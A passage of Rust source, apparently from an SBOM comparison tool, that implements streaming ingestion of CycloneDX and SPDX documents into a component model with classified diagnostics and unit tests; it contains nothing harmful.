            VexStatus::Fixed,
            VexStatus::UnderInvestigation,
        ] {
            assert_eq!(VexStatus::parse(status.as_str()), Some(status));
        }
        assert_eq!(VexStatus::parse("bogus"), None);
    }
}

//! Streaming ingestion of externally produced SBOM documents.
//!
//! The serializers in this crate emit our own documents; this module is
//! the opposite direction: accept SBOMs produced by *other* tools —
//! CycloneDX 1.4/1.5 JSON, SPDX 2.2/2.3 JSON, SPDX 2.3 tag-value — and
//! materialize only the parts the differential engine needs (metadata,
//! components, dependency counts) into the interned [`Component`] model.
//!
//! Reading is incremental: bytes come from any [`io::Read`] through a
//! fixed-size [`ChunkSource`] window, so a multi-hundred-megabyte document
//! never has to fit in memory. Peak buffering is witnessed by
//! [`IngestStats::peak_buffered`] and asserted by the memory-bound test.
//!
//! Correctness is differential by construction: the streaming JSON
//! materializer converts entries through the same
//! [`RawCdxComponent::into_component`] / [`RawSpdxPackage::into_component`]
//! conversions the in-memory parsers use, and first-entry-wins duplicate-key
//! semantics mirror [`Value::get`], so streaming and in-memory ingestion of
//! the same bytes produce the same component set — the property the
//! round-trip suite asserts.
//!
//! Ingestion never panics: every malformed input maps to a classified
//! [`Diagnostic`] (the fatal one in [`IngestOutcome::fatal`]), and the
//! `ingest.doc` fault-injection site lets the chaos soak exercise the
//! degraded path deterministically.
//!
//! [`io::Read`]: std::io::Read
//! [`Value::get`]: sbomdiff_textformats::Value::get

use std::collections::HashSet;
use std::io::Read;

use crate::cyclonedx::RawCdxComponent;
use crate::spdx::{creator_tool, subject_from_doc_name, RawSpdxPackage};
use crate::tagvalue;
use sbomdiff_faultline as fault;
use sbomdiff_textformats::stream::{
    ChunkSource, JsonEvent, JsonStream, LineReader, StreamError, StreamErrorKind, DEFAULT_CHUNK,
};
use sbomdiff_types::{Component, DiagClass, Diagnostic, Sbom, Severity};

/// CycloneDX spec versions the ingester fully models.
const SUPPORTED_CDX: &[&str] = &["1.4", "1.5"];
/// SPDX spec versions the ingester fully models.
const SUPPORTED_SPDX: &[&str] = &["SPDX-2.2", "SPDX-2.3"];

/// The external document format an ingested SBOM was written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DocFormat {
    /// CycloneDX JSON (1.4 or 1.5).
    CycloneDxJson,
    /// SPDX JSON (2.2 or 2.3).
    SpdxJson,
    /// SPDX tag-value.
    SpdxTagValue,
}

impl DocFormat {
    /// Every ingestable format, in metrics-label order.
    pub const ALL: [DocFormat; 3] = [
        DocFormat::CycloneDxJson,
        DocFormat::SpdxJson,
        DocFormat::SpdxTagValue,
    ];

    /// Stable label used as the metrics `format` label and in API output.
    pub fn label(self) -> &'static str {
        match self {
            DocFormat::CycloneDxJson => "cyclonedx",
            DocFormat::SpdxJson => "spdx-json",
            DocFormat::SpdxTagValue => "spdx-tag-value",
        }
    }
}

/// Running counters exposed to progress callbacks and returned with the
/// final [`IngestOutcome`].
#[derive(Debug, Clone, Default)]
pub struct IngestStats {
    /// Bytes consumed from the reader so far.
    pub bytes_read: u64,
    /// High-water mark of reader-side buffering (chunk window + largest
    /// token), the bounded-memory witness.
    pub peak_buffered: usize,
    /// Components materialized so far.
    pub components: usize,
    /// Dependency edges seen (CycloneDX `dependsOn` entries, SPDX
    /// relationships).
    pub dependency_edges: u64,
    /// The document's self-declared spec version, once seen.
    pub spec_version: Option<String>,
}

/// What ingesting one document produced. Never an `Err`: failures are
/// classified into [`IngestOutcome::fatal`] so callers degrade instead of
/// aborting.
#[derive(Debug)]
pub struct IngestOutcome {
    /// The detected format (`None` when the document was not recognizable).
    pub format: Option<DocFormat>,
    /// The materialized SBOM (empty on fatal failure); non-fatal findings
    /// are attached as its diagnostics.
    pub sbom: Sbom,
    /// The classified failure that stopped ingestion, if any.
    pub fatal: Option<Diagnostic>,
    /// Reader-side counters.
    pub stats: IngestStats,
}

impl IngestOutcome {
    fn empty() -> Self {
        IngestOutcome {
            format: None,
            sbom: Sbom::default(),
            fatal: None,
            stats: IngestStats::default(),
        }
    }

    /// Whether ingestion failed fatally.
    pub fn is_fatal(&self) -> bool {
        self.fatal.is_some()
    }
}

/// Knobs for [`ingest_reader`].
#[derive(Debug, Clone)]
pub struct IngestOptions {
    /// Chunk window size (clamped to `[512, 8 MiB]` by the source).
    pub chunk_size: usize,
    /// Deterministic key for the `ingest.doc` fault site. Callers should
    /// derive it from the document (e.g. its byte length) so chaos soaks
    /// inject identically regardless of worker interleaving.
    pub fault_key: String,
}

impl Default for IngestOptions {
    fn default() -> Self {
        IngestOptions {
            chunk_size: DEFAULT_CHUNK,
            fault_key: String::new(),
        }
    }
}

/// Ingests a document held in memory (the service path: request bodies are
/// already buffered). The fault key is the byte length, which is identical
/// across workers for the same document.
pub fn ingest_bytes(bytes: &[u8]) -> IngestOutcome {
    let opts = IngestOptions {
        chunk_size: DEFAULT_CHUNK,
        fault_key: bytes.len().to_string(),
    };
    ingest_reader(bytes, opts, &mut |_| {})
}

/// Ingests a document from any reader, invoking `progress` as components
/// materialize (at least once per materialized component; line-oriented
/// formats also report periodically between packages).
pub fn ingest_reader<R: Read>(
    reader: R,
    opts: IngestOptions,
    progress: &mut dyn FnMut(&IngestStats),
) -> IngestOutcome {
    let mut out = IngestOutcome::empty();
    if let Some(surfaced) = fault::point!(fault::sites::INGEST_DOC, &opts.fault_key) {
        out.fatal = Some(Diagnostic::new(
            DiagClass::IoError,
            surfaced.message(fault::sites::INGEST_DOC),
        ));
        return out;
    }
    let mut src = ChunkSource::with_chunk_size(reader, opts.chunk_size);
    // Sniff: first non-whitespace byte decides JSON vs tag-value. Which
    // JSON dialect it is can only be decided once the top-level marker
    // keys (`bomFormat` / `spdxVersion`) have streamed past.
    let first = loop {
        match src.peek() {
            Ok(Some(b)) if (b as char).is_ascii_whitespace() => {
                if let Err(e) = src.next_byte() {
                    out.fatal = Some(classify_fatal(&e));
                    return out;
                }
            }
            Ok(other) => break other,
            Err(e) => {
                out.fatal = Some(classify_fatal(&e));
                return out;
            }
        }
    };
    match first {
        None => {
            out.fatal = Some(Diagnostic::new(DiagClass::TruncatedInput, "empty document"));
            out
        }
        Some(b'{') => ingest_json(JsonStream::from_source(src), out, progress),
        Some(_) => ingest_tag_value(LineReader::from_source(src), out, progress),
    }
}

/// Maps a streaming error to the fatal diagnostic taxonomy.
fn classify_fatal(e: &StreamError) -> Diagnostic {
    let class = match e.kind() {
        StreamErrorKind::Syntax => DiagClass::MalformedFile,
        StreamErrorKind::UnexpectedEof => DiagClass::TruncatedInput,
        StreamErrorKind::Utf8 => DiagClass::EncodingError,
        StreamErrorKind::DepthExceeded | StreamErrorKind::TokenTooLong => {
            DiagClass::UnsupportedSyntax
        }
        StreamErrorKind::Io => DiagClass::IoError,
    };
    // A fatal stop is an error even for classes whose default severity is
    // softer (resource-cap violations).
    let mut d = Diagnostic::new(class, e.message().to_string())
        .with_severity(Severity::Error)
        .with_byte_offset(e.byte_offset());
    if e.line() > 0 {
        d = d.with_line(e.line() as u32);
    }
    d
}

/// Everything the JSON materializer extracts from a top-level document.
#[derive(Debug, Default)]
struct DocFields {
    bom_format: Option<String>,
    spec_version: Option<String>,
    spdx_version: Option<String>,
    doc_name: Option<String>,
    creator: Option<String>,
    tool_name: Option<String>,
    tool_version: Option<String>,
    subject: Option<String>,
    /// CycloneDX `metadata.timestamp` or SPDX `creationInfo.created`.
    timestamp: Option<String>,
    components: Vec<Component>,
    dependency_edges: u64,
}

fn ingest_json<R: Read>(
    mut js: JsonStream<R>,
    mut out: IngestOutcome,
    progress: &mut dyn FnMut(&IngestStats),
) -> IngestOutcome {
    let mut fields = DocFields::default();
    let result = parse_top(&mut js, &mut fields, &mut out.stats, progress);
    out.stats.bytes_read = js.bytes_read();
    out.stats.peak_buffered = js.peak_buffered();
    out.stats.dependency_edges = fields.dependency_edges;
    out.stats.components = fields.components.len();
    if let Err(e) = result {
        out.fatal = Some(classify_fatal(&e));
        return out;
    }
    if fields.bom_format.as_deref() == Some("CycloneDX") {
        out.format = Some(DocFormat::CycloneDxJson);
        out.stats.spec_version = fields.spec_version.clone();
        let mut sbom = Sbom::new(
            fields.tool_name.unwrap_or_else(|| "unknown".to_string()),
            fields.tool_version.unwrap_or_default(),
        )
        .with_subject(fields.subject.unwrap_or_default());
        sbom.meta.timestamp = fields.timestamp;
        if let Some(v) = &fields.spec_version {
            if !SUPPORTED_CDX.contains(&v.as_str()) {
                sbom.push_diagnostic(spec_warning("CycloneDX specVersion", v));
            }
        }
        for c in fields.components {
            sbom.push(c);
        }
        out.sbom = sbom;
    } else if fields
        .spdx_version
        .as_deref()
        .is_some_and(|v| v.starts_with("SPDX-"))
    {
        out.format = Some(DocFormat::SpdxJson);
        out.stats.spec_version = fields.spdx_version.clone();
        let (tool_name, tool_version) = creator_tool(fields.creator.as_deref().unwrap_or(""));
        let subject = subject_from_doc_name(fields.doc_name.as_deref().unwrap_or(""), &tool_name);
        let mut sbom = Sbom::new(tool_name, tool_version).with_subject(subject);
        sbom.meta.timestamp = fields.timestamp;
        if let Some(v) = &fields.spdx_version {
            if !SUPPORTED_SPDX.contains(&v.as_str()) {
                sbom.push_diagnostic(spec_warning("spdxVersion", v));
            }
        }
        for c in fields.components {
            sbom.push(c);
        }
        out.sbom = sbom;
    } else {
        out.fatal = Some(Diagnostic::new(
            DiagClass::MalformedFile,
            "not a recognizable CycloneDX or SPDX document",
        ));
    }
    out
}

fn spec_warning(field: &str, value: &str) -> Diagnostic {
    Diagnostic::new(
        DiagClass::UnsupportedSyntax,
        format!(
            "unsupported {field} {:?}; fields beyond the supported versions are ignored",
            sbomdiff_types::diagnostic::excerpt(value)
        ),
    )
    .with_severity(Severity::Warning)
}

/// The next event, turning a clean end-of-document into a truncation error
/// (callers here are always inside a structure they expect to finish).
fn must_event<R: Read>(js: &mut JsonStream<R>) -> Result<JsonEvent, StreamError> {
    match js.next_event()? {
        Some(ev) => Ok(ev),
        None => Err(StreamError::new(
            StreamErrorKind::UnexpectedEof,
            js.line(),
            js.bytes_read(),
            "unexpected end of document",
        )),
    }
}

fn unexpected<R: Read>(js: &JsonStream<R>) -> StreamError {
    StreamError::new(
        StreamErrorKind::Syntax,
        js.line(),
        js.bytes_read(),
        "unexpected event inside object",
    )
}

/// Skips the remainder of a value whose first event was `ev`.
fn skip_rest_of<R: Read>(js: &mut JsonStream<R>, ev: &JsonEvent) -> Result<(), StreamError> {
    if !matches!(ev, JsonEvent::ObjectStart | JsonEvent::ArrayStart) {
        return Ok(());
    }
    let mut depth = 1usize;
    while depth > 0 {
        match must_event(js)? {
            JsonEvent::ObjectStart | JsonEvent::ArrayStart => depth += 1,
            JsonEvent::ObjectEnd | JsonEvent::ArrayEnd => depth -= 1,
            _ => {}
        }
    }
    Ok(())
}

/// Skips one whole value.
fn skip_value<R: Read>(js: &mut JsonStream<R>) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    skip_rest_of(js, &ev)
}

/// Reads one value, keeping it only when it is a string (mirroring
/// `Value::as_str` returning `None` for other shapes).
fn str_value<R: Read>(js: &mut JsonStream<R>) -> Result<Option<String>, StreamError> {
    match must_event(js)? {
        JsonEvent::Str(s) => Ok(Some(s)),
        ev => {
            skip_rest_of(js, &ev)?;
            Ok(None)
        }
    }
}

fn parse_top<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
    stats: &mut IngestStats,
    progress: &mut dyn FnMut(&IngestStats),
) -> Result<(), StreamError> {
    match js.next_event()? {
        Some(JsonEvent::ObjectStart) => {}
        _ => {
            // The sniffer saw `{`, so anything else is tokenizer-level.
            return Err(unexpected(js));
        }
    }
    // First-entry-wins for duplicate keys, matching `Value::get`.
    let mut seen: HashSet<String> = HashSet::new();
    loop {
        match must_event(js)? {
            JsonEvent::Key(k) => {
                if !seen.insert(k.clone()) {
                    skip_value(js)?;
                    continue;
                }
                match k.as_str() {
                    "bomFormat" => fields.bom_format = str_value(js)?,
                    "specVersion" => fields.spec_version = str_value(js)?,
                    "spdxVersion" => fields.spdx_version = str_value(js)?,
                    "name" => fields.doc_name = str_value(js)?,
                    "metadata" => parse_metadata(js, fields)?,
                    "creationInfo" => parse_creation_info(js, fields)?,
                    "components" => parse_cdx_components(js, fields, stats, progress)?,
                    "packages" => parse_spdx_packages(js, fields, stats, progress)?,
                    "dependencies" => parse_cdx_dependencies(js, fields)?,
                    "relationships" => fields.dependency_edges += count_array_items(js)?,
                    _ => skip_value(js)?,
                }
            }
            JsonEvent::ObjectEnd => break,
            _ => return Err(unexpected(js)),
        }
    }
    // Drain: a clean document yields `None`; trailing bytes are a syntax
    // error the tokenizer raises itself.
    js.next_event()?;
    Ok(())
}

/// CycloneDX `metadata`: the tool identity and the analyzed subject.
fn parse_metadata<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ObjectStart {
        return skip_rest_of(js, &ev);
    }
    let mut seen: HashSet<String> = HashSet::new();
    loop {
        match must_event(js)? {
            JsonEvent::Key(k) => {
                if !seen.insert(k.clone()) {
                    skip_value(js)?;
                    continue;
                }
                match k.as_str() {
                    "tools" => parse_tools(js, fields)?,
                    "component" => parse_subject(js, fields)?,
                    "timestamp" => fields.timestamp = str_value(js)?,
                    _ => skip_value(js)?,
                }
            }
            JsonEvent::ObjectEnd => return Ok(()),
            _ => return Err(unexpected(js)),
        }
    }
}

/// CycloneDX `metadata.tools`: an array of tool objects (1.4) or an object
/// holding a `components` array (1.5). Only the first entry's name/version
/// are used, like the in-memory `tools/0` pointer.
fn parse_tools<R: Read>(js: &mut JsonStream<R>, fields: &mut DocFields) -> Result<(), StreamError> {
    match must_event(js)? {
        JsonEvent::ArrayStart => parse_tool_entries(js, fields),
        JsonEvent::ObjectStart => {
            let mut seen: HashSet<String> = HashSet::new();
            loop {
                match must_event(js)? {
                    JsonEvent::Key(k) => {
                        if !seen.insert(k.clone()) {
                            skip_value(js)?;
                            continue;
                        }
                        if k == "components" {
                            match must_event(js)? {
                                JsonEvent::ArrayStart => parse_tool_entries(js, fields)?,
                                ev => skip_rest_of(js, &ev)?,
                            }
                        } else {
                            skip_value(js)?;
                        }
                    }
                    JsonEvent::ObjectEnd => return Ok(()),
                    _ => return Err(unexpected(js)),
                }
            }
        }
        ev => skip_rest_of(js, &ev),
    }
}

/// The entries of a tools array (`ArrayStart` already consumed): entry 0's
/// `name`/`version` strings, everything else skipped.
fn parse_tool_entries<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
) -> Result<(), StreamError> {
    let mut idx = 0usize;
    loop {
        match must_event(js)? {
            JsonEvent::ArrayEnd => return Ok(()),
            JsonEvent::ObjectStart if idx == 0 => {
                idx += 1;
                let mut seen: HashSet<String> = HashSet::new();
                loop {
                    match must_event(js)? {
                        JsonEvent::Key(k) => {
                            if !seen.insert(k.clone()) {
                                skip_value(js)?;
                                continue;
                            }
                            match k.as_str() {
                                "name" => fields.tool_name = str_value(js)?,
                                "version" => fields.tool_version = str_value(js)?,
                                _ => skip_value(js)?,
                            }
                        }
                        JsonEvent::ObjectEnd => break,
                        _ => return Err(unexpected(js)),
                    }
                }
            }
            ev => {
                idx += 1;
                skip_rest_of(js, &ev)?;
            }
        }
    }
}

/// CycloneDX `metadata.component`: the analyzed subject's `name`.
fn parse_subject<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ObjectStart {
        return skip_rest_of(js, &ev);
    }
    let mut seen: HashSet<String> = HashSet::new();
    loop {
        match must_event(js)? {
            JsonEvent::Key(k) => {
                if !seen.insert(k.clone()) {
                    skip_value(js)?;
                    continue;
                }
                if k == "name" {
                    fields.subject = str_value(js)?;
                } else {
                    skip_value(js)?;
                }
            }
            JsonEvent::ObjectEnd => return Ok(()),
            _ => return Err(unexpected(js)),
        }
    }
}

/// SPDX `creationInfo`: `creators[0]` when it is a string, like the
/// in-memory `creationInfo/creators/0` pointer.
fn parse_creation_info<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ObjectStart {
        return skip_rest_of(js, &ev);
    }
    let mut seen: HashSet<String> = HashSet::new();
    loop {
        match must_event(js)? {
            JsonEvent::Key(k) => {
                if !seen.insert(k.clone()) {
                    skip_value(js)?;
                    continue;
                }
                if k == "created" {
                    fields.timestamp = str_value(js)?;
                } else if k == "creators" {
                    match must_event(js)? {
                        JsonEvent::ArrayStart => {
                            let mut idx = 0usize;
                            loop {
                                match must_event(js)? {
                                    JsonEvent::ArrayEnd => break,
                                    JsonEvent::Str(s) if idx == 0 => {
                                        idx += 1;
                                        fields.creator = Some(s);
                                    }
                                    ev => {
                                        idx += 1;
                                        skip_rest_of(js, &ev)?;
                                    }
                                }
                            }
                        }
                        ev => skip_rest_of(js, &ev)?,
                    }
                } else {
                    skip_value(js)?;
                }
            }
            JsonEvent::ObjectEnd => return Ok(()),
            _ => return Err(unexpected(js)),
        }
    }
}

/// CycloneDX `components`: materialize each entry through
/// [`RawCdxComponent`] as it completes.
fn parse_cdx_components<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
    stats: &mut IngestStats,
    progress: &mut dyn FnMut(&IngestStats),
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ArrayStart {
        return skip_rest_of(js, &ev);
    }
    loop {
        match must_event(js)? {
            JsonEvent::ArrayEnd => return Ok(()),
            JsonEvent::ObjectStart => {
                let mut raw = RawCdxComponent::default();
                let mut seen: HashSet<String> = HashSet::new();
                loop {
                    match must_event(js)? {
                        JsonEvent::Key(k) => {
                            if !seen.insert(k.clone()) {
                                skip_value(js)?;
                                continue;
                            }
                            match k.as_str() {
                                "name" => raw.name = str_value(js)?,
                                "version" => raw.version = str_value(js)?,
                                "purl" => raw.purl = str_value(js)?,
                                "cpe" => raw.cpe = str_value(js)?,
                                "publisher" => raw.publisher = str_value(js)?,
                                "properties" => parse_cdx_properties(js, &mut raw)?,
                                _ => skip_value(js)?,
                            }
                        }
                        JsonEvent::ObjectEnd => break,
                        _ => return Err(unexpected(js)),
                    }
                }
                if let Some(c) = raw.into_component() {
                    fields.components.push(c);
                    stats.components = fields.components.len();
                    stats.bytes_read = js.bytes_read();
                    stats.peak_buffered = js.peak_buffered();
                    progress(stats);
                }
            }
            ev => skip_rest_of(js, &ev)?,
        }
    }
}

/// A CycloneDX component's `properties` array: entries where both `name`
/// and `value` are strings, in document order.
fn parse_cdx_properties<R: Read>(
    js: &mut JsonStream<R>,
    raw: &mut RawCdxComponent,
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ArrayStart {
        return skip_rest_of(js, &ev);
    }
    loop {
        match must_event(js)? {
            JsonEvent::ArrayEnd => return Ok(()),
            JsonEvent::ObjectStart => {
                // Set-once slots: the outer layer records the first
                // occurrence of each key even when it is not a string, so a
                // later duplicate cannot override it (first-entry-wins).
                let mut pname: Option<Option<String>> = None;
                let mut pvalue: Option<Option<String>> = None;
                loop {
                    match must_event(js)? {
                        JsonEvent::Key(k) => match k.as_str() {
                            "name" if pname.is_none() => pname = Some(str_value(js)?),
                            "value" if pvalue.is_none() => pvalue = Some(str_value(js)?),
                            _ => skip_value(js)?,
                        },
                        JsonEvent::ObjectEnd => break,
                        _ => return Err(unexpected(js)),
                    }
                }
                if let (Some(Some(n)), Some(Some(v))) = (pname, pvalue) {
                    raw.properties.push((n, v));
                }
            }
            ev => skip_rest_of(js, &ev)?,
        }
    }
}

/// SPDX `packages`: materialize each entry through [`RawSpdxPackage`].
fn parse_spdx_packages<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
    stats: &mut IngestStats,
    progress: &mut dyn FnMut(&IngestStats),
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ArrayStart {
        return skip_rest_of(js, &ev);
    }
    loop {
        match must_event(js)? {
            JsonEvent::ArrayEnd => return Ok(()),
            JsonEvent::ObjectStart => {
                let mut raw = RawSpdxPackage::default();
                let mut seen: HashSet<String> = HashSet::new();
                loop {
                    match must_event(js)? {
                        JsonEvent::Key(k) => {
                            if !seen.insert(k.clone()) {
                                skip_value(js)?;
                                continue;
                            }
                            match k.as_str() {
                                "name" => raw.name = str_value(js)?,
                                "versionInfo" => raw.version = str_value(js)?,
                                "sourceInfo" => raw.source_info = str_value(js)?,
                                "supplier" => raw.supplier = str_value(js)?,
                                "externalRefs" => parse_spdx_refs(js, &mut raw)?,
                                _ => skip_value(js)?,
                            }
                        }
                        JsonEvent::ObjectEnd => break,
                        _ => return Err(unexpected(js)),
                    }
                }
                if let Some(c) = raw.into_component() {
                    fields.components.push(c);
                    stats.components = fields.components.len();
                    stats.bytes_read = js.bytes_read();
                    stats.peak_buffered = js.peak_buffered();
                    progress(stats);
                }
            }
            ev => skip_rest_of(js, &ev)?,
        }
    }
}

/// An SPDX package's `externalRefs` array: `(referenceType,
/// referenceLocator)` of each entry with a string type.
fn parse_spdx_refs<R: Read>(
    js: &mut JsonStream<R>,
    raw: &mut RawSpdxPackage,
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ArrayStart {
        return skip_rest_of(js, &ev);
    }
    loop {
        match must_event(js)? {
            JsonEvent::ArrayEnd => return Ok(()),
            JsonEvent::ObjectStart => {
                let mut rtype: Option<Option<String>> = None;
                let mut locator: Option<Option<String>> = None;
                loop {
                    match must_event(js)? {
                        JsonEvent::Key(k) => match k.as_str() {
                            "referenceType" if rtype.is_none() => rtype = Some(str_value(js)?),
                            "referenceLocator" if locator.is_none() => {
                                locator = Some(str_value(js)?)
                            }
                            _ => skip_value(js)?,
                        },
                        JsonEvent::ObjectEnd => break,
                        _ => return Err(unexpected(js)),
                    }
                }
                if let Some(Some(t)) = rtype {
                    raw.refs.push((t, locator.flatten()));
                }
            }
            ev => skip_rest_of(js, &ev)?,
        }
    }
}

/// CycloneDX `dependencies`: counts `dependsOn` string entries across the
/// graph (an ingest statistic; the flat component model carries no edges).
fn parse_cdx_dependencies<R: Read>(
    js: &mut JsonStream<R>,
    fields: &mut DocFields,
) -> Result<(), StreamError> {
    let ev = must_event(js)?;
    if ev != JsonEvent::ArrayStart {
        return skip_rest_of(js, &ev);
    }
    loop {
        match must_event(js)? {
            JsonEvent::ArrayEnd => return Ok(()),
            JsonEvent::ObjectStart => {
                let mut counted = false;
                loop {
                    match must_event(js)? {
                        JsonEvent::Key(k) => {
                            if k == "dependsOn" && !counted {
                                counted = true;
                                match must_event(js)? {
                                    JsonEvent::ArrayStart => loop {
                                        match must_event(js)? {
                                            JsonEvent::ArrayEnd => break,
                                            JsonEvent::Str(_) => fields.dependency_edges += 1,
                                            ev => skip_rest_of(js, &ev)?,
                                        }
                                    },
                                    ev => skip_rest_of(js, &ev)?,
                                }
                            } else {
                                skip_value(js)?;
                            }
                        }
                        JsonEvent::ObjectEnd => break,
                        _ => return Err(unexpected(js)),
                    }
                }
            }
            ev => skip_rest_of(js, &ev)?,
        }
    }
}

/// Counts the items of an array value (non-arrays count zero).
fn count_array_items<R: Read>(js: &mut JsonStream<R>) -> Result<u64, StreamError> {
    match must_event(js)? {
        JsonEvent::ArrayStart => {
            let mut n = 0u64;
            loop {
                match must_event(js)? {
                    JsonEvent::ArrayEnd => return Ok(n),
                    ev => {
                        n += 1;
                        skip_rest_of(js, &ev)?;
                    }
                }
            }
        }
        ev => {
            skip_rest_of(js, &ev)?;
            Ok(0)
        }
    }
}

/// How many tag-value lines between periodic progress reports.
const TAG_VALUE_PROGRESS_EVERY: usize = 1024;

fn ingest_tag_value<R: Read>(
    mut lr: LineReader<R>,
    mut out: IngestOutcome,
    progress: &mut dyn FnMut(&IngestStats),
) -> IngestOutcome {
    let mut builder = tagvalue::Builder::new();
    let mut lines = 0usize;
    loop {
        match lr.next_line() {
            Ok(Some(line)) => {
                lines += 1;
                let starts_package = line.trim_start().starts_with("PackageName:");
                if let Err(e) = builder.line(&line) {
                    out.stats.bytes_read = lr.bytes_read();
                    out.stats.peak_buffered = lr.peak_buffered();
                    out.fatal = Some(
                        Diagnostic::new(DiagClass::MalformedFile, e.message().to_string())
                            .with_line(e.line() as u32),
                    );
                    return out;
                }
                if starts_package || lines.is_multiple_of(TAG_VALUE_PROGRESS_EVERY) {
                    out.stats.bytes_read = lr.bytes_read();
                    out.stats.peak_buffered = lr.peak_buffered();
                    if starts_package {
                        out.stats.components += 1;
                    }
                    progress(&out.stats);
                }
            }
            Ok(None) => break,
            Err(e) => {
                out.stats.bytes_read = lr.bytes_read();
                out.stats.peak_buffered = lr.peak_buffered();
                out.fatal = Some(classify_fatal(&e));
                return out;
            }
        }
    }
    out.stats.bytes_read = lr.bytes_read();
    out.stats.peak_buffered = lr.peak_buffered();
    out.stats.spec_version = builder.spdx_version().map(str::to_string);
    out.stats.dependency_edges = builder.relationships();
    match builder.finish() {
        Ok(sbom) => {
            out.format = Some(DocFormat::SpdxTagValue);
            out.stats.components = sbom.len();
            if let Some(v) = out.stats.spec_version.clone() {
                if !SUPPORTED_SPDX.contains(&v.as_str()) {
                    out.sbom = sbom;
                    out.sbom.push_diagnostic(spec_warning("SPDXVersion", &v));
                    return out;
                }
            }
            out.sbom = sbom;
            out
        }
        Err(e) => {
            // `finish` fails on an unterminated `<text>` span (truncation)
            // or a document that never declared an SPDX version.
            let class = if e.message().contains("unterminated") {
                DiagClass::TruncatedInput
            } else {
                DiagClass::MalformedFile
            };
            let mut d = Diagnostic::new(class, e.message().to_string());
            if e.line() > 0 {
                d = d.with_line(e.line() as u32);
            }
            out.fatal = Some(d);
            out.stats.components = 0;
            out
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::SbomFormat;
    use sbomdiff_faultline::{FaultAction, FaultPlan, FaultRule};
    use sbomdiff_types::{Cpe, DepScope, Ecosystem, Purl};

    fn sample(tool: &str) -> Sbom {
        let mut sbom = Sbom::new(tool, "9.9.1")
            .with_subject("demo-repo")
            .with_timestamp("2024-06-24T00:00:00Z");
        sbom.push(
            Component::new(Ecosystem::Python, "requests", Some("2.31.0".into()))
                .with_found_in("requirements.txt")
                .with_scope(DepScope::Runtime)
                .with_purl(Purl::for_package(
                    Ecosystem::Python,
                    "requests",
                    Some("2.31.0"),
                ))
                .with_cpe(Cpe::for_package(Ecosystem::Python, "requests", "2.31.0"))
                .with_supplier("pypi:requests"),
        );
        sbom.push(Component::new(Ecosystem::Go, "github.com/a/b", None));
        sbom
    }

    #[test]
    fn round_trips_every_emitted_format() {
        let s = sample("syft");
        for (format, want) in [
            (SbomFormat::CycloneDx, DocFormat::CycloneDxJson),
            (SbomFormat::Spdx, DocFormat::SpdxJson),
            (SbomFormat::SpdxTagValue, DocFormat::SpdxTagValue),
        ] {
            let text = format.serialize(&s);
            let out = ingest_bytes(text.as_bytes());
            assert!(out.fatal.is_none(), "{format:?}: {:?}", out.fatal);
            assert_eq!(out.format, Some(want));
            assert_eq!(out.sbom.components(), s.components(), "{format:?}");
            assert_eq!(out.sbom.meta.tool_name, "syft");
            assert_eq!(out.sbom.meta.tool_version, "9.9.1");
            assert_eq!(out.sbom.meta.subject, "demo-repo");
            assert_eq!(
                out.sbom.meta.timestamp.as_deref(),
                Some("2024-06-24T00:00:00Z"),
                "{format:?}"
            );
            assert_eq!(out.stats.components, 2);
            assert_eq!(out.stats.bytes_read, text.len() as u64);
        }
    }

    #[test]
    fn streaming_matches_in_memory_parse() {
        let s = sample("trivy");
        for format in [SbomFormat::CycloneDx, SbomFormat::Spdx] {
            let text = format.serialize(&s);
            let in_memory = format.parse(&text).unwrap();
            for chunk in [512, 4096, DEFAULT_CHUNK] {
                let opts = IngestOptions {
                    chunk_size: chunk,
                    fault_key: String::new(),
                };
                let out = ingest_reader(text.as_bytes(), opts, &mut |_| {});
                assert!(out.fatal.is_none());
                assert_eq!(out.sbom.components(), in_memory.components(), "{chunk}");
                assert_eq!(out.sbom.meta.tool_name, in_memory.meta.tool_name);
                assert_eq!(out.sbom.meta.subject, in_memory.meta.subject);
                assert_eq!(out.sbom.meta.timestamp, in_memory.meta.timestamp);
            }
        }
    }

    #[test]
    fn duplicate_keys_are_first_entry_wins_like_value_get() {
        let text = r#"{
            "bomFormat": "CycloneDX",
            "specVersion": "1.5",
            "components": [{"name": "first", "name": "second", "version": "1"}],
            "components": [{"name": "shadowed"}]
        }"#;
        let streamed = ingest_bytes(text.as_bytes());
        assert!(streamed.fatal.is_none());
        let in_memory = crate::cyclonedx::from_str(text).unwrap();
        assert_eq!(streamed.sbom.components(), in_memory.components());
        assert_eq!(streamed.sbom.components()[0].name, "first");
        assert_eq!(streamed.sbom.len(), 1);
    }

    #[test]
    fn cdx_14_tools_array_and_15_tools_object_shapes() {
        let v14 = r#"{"bomFormat": "CycloneDX", "specVersion": "1.4",
            "metadata": {"tools": [{"name": "syft", "version": "0.84"}]},
            "components": []}"#;
        let v15 = r#"{"bomFormat": "CycloneDX", "specVersion": "1.5",
            "metadata": {"tools": {"components": [{"name": "syft", "version": "0.84"}]}},
            "components": []}"#;
        for text in [v14, v15] {
            let out = ingest_bytes(text.as_bytes());
            assert!(out.fatal.is_none(), "{text}: {:?}", out.fatal);
            assert_eq!(out.sbom.meta.tool_name, "syft");
            assert_eq!(out.sbom.meta.tool_version, "0.84");
            assert!(out.sbom.diagnostics().is_empty());
        }
    }

    #[test]
    fn unsupported_spec_versions_warn_but_parse() {
        let cdx = r#"{"bomFormat": "CycloneDX", "specVersion": "1.0",
            "components": [{"name": "a"}]}"#;
        let out = ingest_bytes(cdx.as_bytes());
